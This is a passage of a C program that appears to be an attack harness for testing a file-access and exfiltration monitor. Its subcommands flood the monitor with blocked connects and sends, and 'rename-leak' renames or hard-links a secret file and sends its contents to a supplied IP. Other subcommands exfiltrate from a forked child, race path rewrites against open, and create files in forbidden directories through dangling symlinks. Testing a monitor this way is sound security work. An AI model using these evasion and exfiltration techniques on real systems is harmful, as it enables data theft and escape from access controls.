        flood_addr.sin_port = htons(atoi(argv[3]));
        inet_pton(AF_INET, argv[2], &flood_addr.sin_addr);
        int n = atoi(argv[4]);
        pthread_attr_t attr;
        pthread_attr_init(&attr);
        pthread_attr_setstacksize(&attr, 64 * 1024);
        pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
        int started = 0;
        for (int i = 0; i < n; i++) {
            pthread_t t;
            if (pthread_create(&t, &attr, flood_connect, NULL) == 0) started++;
        }
        printf("connect-flood: started=%d\n", started);
        usleep(1500000);
        struct timespec t0;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        int ok = 0;
        for (int i = 0; i < 200; i++) {
            int fd = open(argv[5], O_RDONLY);
            if (fd >= 0) {
                ok++;
                close(fd);
            }
        }
        printf("connect-flood: ordinary opens=%d in %ld ms, while %d connects wait\n", ok, ms_since(&t0), n - flood_connected);
        fflush(stdout);
        _exit(0);
    }
    if (!strcmp(name, "send-flood") && argc == 4) {
        // send-flood N ORDINARY: fill a unix stream socket nobody reads, then N
        // threads send on it (blocking: each waits); meanwhile ordinary opens;
        // then the other end reads and every send completes.
        int sp[2];
        report("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, sp));
        flood_sock = sp[0];
        static char chunk[65536];
        long filled = 0, k;
        while ((k = send(sp[0], chunk, sizeof chunk, MSG_DONTWAIT)) > 0) filled += k;
        printf("send-flood: filled=%s\n", filled > 0 && errno == EAGAIN ? "yes" : "no");
        int n = atoi(argv[2]);
        pthread_attr_t attr;
        pthread_attr_init(&attr);
        pthread_attr_setstacksize(&attr, 64 * 1024);
        pthread_t *ts = calloc(n, sizeof *ts);
        int started = 0;
        for (int i = 0; i < n; i++)
            if (pthread_create(&ts[i], &attr, flood_send, NULL) == 0) started++;
        printf("send-flood: started=%d\n", started);
        usleep(1500000);
        struct timespec t0;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        int ok = 0;
        for (int i = 0; i < 200; i++) {
            int fd = open(argv[3], O_RDONLY);
            if (fd >= 0) {
                ok++;
                close(fd);
            }
        }
        printf("send-flood: ordinary opens=%d in %ld ms, while %d sends wait\n", ok, ms_since(&t0), n - flood_sent);
        fflush(stdout);
        long got = 0;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        while (got < filled + n && ms_since(&t0) < 30000) {
            k = recv(sp[1], chunk, sizeof chunk, MSG_DONTWAIT);
            if (k > 0) got += k;
            else usleep(1000);
        }
        for (int i = 0; i < n; i++) pthread_join(ts[i], NULL);
        printf("send-flood: sends=%d received=%s\n", flood_sent, got == filled + n ? "all" : "not all");
        return 0;
    }
    if (!strcmp(name, "abandon") && argc == 4) {
        // abandon FIFO N: N processes wait to open FIFO; they are killed while
        // they wait (whatever the monitor holds for them must go too).
        int n = atoi(argv[3]);
        pid_t *kids = calloc(n, sizeof *kids);
        for (int i = 0; i < n; i++) {
            kids[i] = fork();
            if (kids[i] == 0) {
                open(argv[2], O_RDONLY);
                _exit(0);
            }
        }
        usleep(2000000);
        printf("abandon: waiting\n");
        fflush(stdout);
        usleep(1500000);
        for (int i = 0; i < n; i++) kill(kids[i], SIGKILL);
        int reaped = 0;
        for (int i = 0; i < n; i++)
            if (waitpid(kids[i], NULL, 0) == kids[i]) reaped++;
        printf("abandon: killed=%d\n", reaped);
        fflush(stdout);
        usleep(2000000);
        printf("abandon: done\n");
        return 0;
    }
    if (!strcmp(name, "open-loop") && argc == 4) {
        // open-loop PATH N: N opens (each one a decision to record).
        int n = atoi(argv[3]), ok = 0, refused = 0, last = 0;
        for (int i = 0; i < n; i++) {
            int fd = open(argv[2], O_RDONLY);
            if (fd >= 0) {
                ok++;
                close(fd);
            } else {
                refused++;
                last = errno;
            }
        }
        printf("open-loop: ok=%d refused=%d errno=%d\n", ok, refused, last);
        return 0;
    }
    if (!strcmp(name, "rename-leak") && argc == 8) {
        // rename-leak IP PORT HOW SRC DST READ: send on a socket (the channel
        // works), give SRC another name by HOW, read READ (the secret's new name),
        // then send what was read on the old socket and on a new one.
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        report("connect before", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("send before", write(s, "before\n", 7));
        const char *how = argv[4], *src = argv[5], *dst = argv[6];
        long r = -1;
        errno = EINVAL;
        int d = open(".", O_PATH | O_DIRECTORY);
        if (!strcmp(how, "rename")) r = rename(src, dst);
        else if (!strcmp(how, "renameat")) r = renameat(d, src, d, dst);
        else if (!strcmp(how, "renameat2")) r = syscall(SYS_renameat2, d, src, d, dst, 0);
        else if (!strcmp(how, "renameat2-noreplace")) r = syscall(SYS_renameat2, d, src, d, dst, 1);
        else if (!strcmp(how, "renameat2-exchange")) r = syscall(SYS_renameat2, d, src, d, dst, 2);
        else if (!strcmp(how, "renameat2-whiteout")) r = syscall(SYS_renameat2, d, src, d, dst, 4);
        else if (!strcmp(how, "link")) r = link(src, dst);
        else if (!strcmp(how, "linkat")) r = linkat(d, src, d, dst, 0);
        else if (!strcmp(how, "linkat-follow")) r = linkat(AT_FDCWD, src, AT_FDCWD, dst, AT_SYMLINK_FOLLOW);
        else if (!strcmp(how, "linkat-procfd") || !strcmp(how, "linkat-empty")) {
            // A handle that is only a look (O_PATH: `visible`), linked by
            // descriptor.
            int h = open(src, O_PATH);
            report("O_PATH source", h);
            if (!strcmp(how, "linkat-empty")) {
                r = linkat(h, "", AT_FDCWD, dst, AT_EMPTY_PATH);
            } else {
                char p[64];
                snprintf(p, sizeof p, "/proc/self/fd/%d", h);
                r = linkat(AT_FDCWD, p, AT_FDCWD, dst, AT_SYMLINK_FOLLOW);
            }
        }
        report(how, r);
        // No pause: a transition the name change fires has fired when it returns.
        report("send after name change", write(s, "x\n", 2));
        char buf[256] = {0};
        int fd = open(argv[7], O_RDONLY);
        report("open new name", fd);
        ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
        printf("new name holds the secret: %d\n", n > 0 && strstr(buf, "SECRET") != NULL);
        usleep(100000);
        report("send after (old socket)", write(s, buf, n > 0 ? (size_t)n : 1));
        struct sockaddr_in sb;
        int s2 = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sb);
        if (s2 >= 0) {
            long c = connect(s2, (struct sockaddr *)&sb, sizeof sb);
            report("connect after", c);
            if (c == 0) report("send after (new socket)", write(s2, buf, n > 0 ? (size_t)n : 1));
        }
        return 0;
    }
    if (!strcmp(name, "fork-then")) {
        // fork-then CMD...: run a child process that does the work (exfiltration
        // from a child after the parent was tainted).
        pid_t p = fork();
        if (p == 0) {
            execv(argv[2], argv + 2);
            _exit(127);
        }
        int st;
        waitpid(p, &st, 0);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
    }
    if (!strcmp(name, "vfork-race") && argc == 5) {
        // A CLONE_VM peer rewrites the path while the parent is stopped in open.
        race_a = argv[2];
        race_b = argv[3];
        int n = atoi(argv[4]), good = 0, leaked = 0;
        strcpy(race_buf, race_a);
        static char stack[65536];
        int pid = clone((int (*)(void *))flipper, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
        open_loop(race_buf, n, &good, &leaked);
        race_stop = 1;
        waitpid(pid, NULL, 0);
        printf("vfork-race: good=%d leaked=%d rounds=%d refused=%d other=%d\n", good, leaked, loop_rounds, loop_refused, loop_other);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "dangling") && argc == 6) {
        // dangling SECRET_DIR REL_SECRET_DIR ETC_NAME N: creates through dangling
        // symlinks the program plants itself in its working directory (the
        // workspace), each pointing where the policy forbids writing.
        const char *sdir = argv[2], *rel = argv[3], *etc = argv[4];
        int n = atoi(argv[5]);
        char t[700];
        // The channel works: a dangling link to a workspace file creates it.
        symlink("made.txt", "ok_link");
        int fd = open("ok_link", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        report("create via workspace link", fd);
        if (fd >= 0) { write(fd, "made\n", 5); close(fd); }
        fd = open("ok_link", O_WRONLY | O_CREAT | O_EXCL, 0644);
        report("O_EXCL via existing-target link", fd);
        symlink("made2.txt", "excl_link");
        report("O_EXCL via dangling link", open("excl_link", O_WRONLY | O_CREAT | O_EXCL, 0644));
        report("O_NOFOLLOW via dangling link", open("excl_link", O_WRONLY | O_CREAT | O_NOFOLLOW, 0644));
        // To the secret directory: absolute, relative, a chain, every open call.
        snprintf(t, sizeof t, "%s/planted_abs", sdir);
        symlink(t, "to_secret");
        report("open to_secret", open("to_secret", O_WRONLY | O_CREAT | O_TRUNC, 0600));
        report("creat to_secret", creat("to_secret", 0600));
        report("openat to_secret", openat(AT_FDCWD, "to_secret", O_RDWR | O_CREAT, 0600));
        report("open append to_secret", open("to_secret", O_WRONLY | O_APPEND | O_CREAT, 0600));
        struct open_how how = {.flags = O_WRONLY | O_CREAT, .mode = 0600};
        report("openat2 to_secret", syscall(SYS_openat2, AT_FDCWD, "to_secret", &how, sizeof how));
        snprintf(t, sizeof t, "%s/planted_rel", rel);
        symlink(t, "to_secret_rel");
        report("open to_secret_rel", open("to_secret_rel", O_WRONLY | O_CREAT, 0600));
        snprintf(t, sizeof t, "%s/planted_chain", sdir);
        symlink(t, "chain3");
        symlink("chain3", "chain2");
        mkdir("sub", 0755);
        symlink("../chain2", "sub/chain1");
        report("open sub/chain1", open("sub/chain1", O_WRONLY | O_CREAT, 0600));
        int dfd = open("sub", O_RDONLY | O_DIRECTORY);
        report("openat(dirfd) chain1", openat(dfd, "chain1", O_WRONLY | O_CREAT, 0600));
        symlink(etc, "to_etc");
        report("open to_etc", open("to_etc", O_WRONLY | O_CREAT, 0644));
        // A link swapped between a workspace target and the secret directory.
        swap_link = "race";
        swap_good = "race_ok.txt";
        snprintf(t, sizeof t, "%s/planted_race", sdir);
        swap_bad = t;
        pthread_t th;
        race_stop = 0;
        pthread_create(&th, NULL, swapper, NULL);
        int good = 0, refused = 0;
        for (int i = 0; i < n; i++) {
            int r = open("race", O_WRONLY | O_CREAT, 0600);
            if (r >= 0) { good++; close(r); unlink("race_ok.txt"); }
            else refused++;
        }
        race_stop = 1;
        pthread_join(th, NULL);
        printf("dangling race: good=%d refused=%d\n", good, refused);
        printf("dangling: done\n");
        return 0;
    }
    fprintf(stderr, "attack: unknown attack %s\n", name);
    return 2;
}
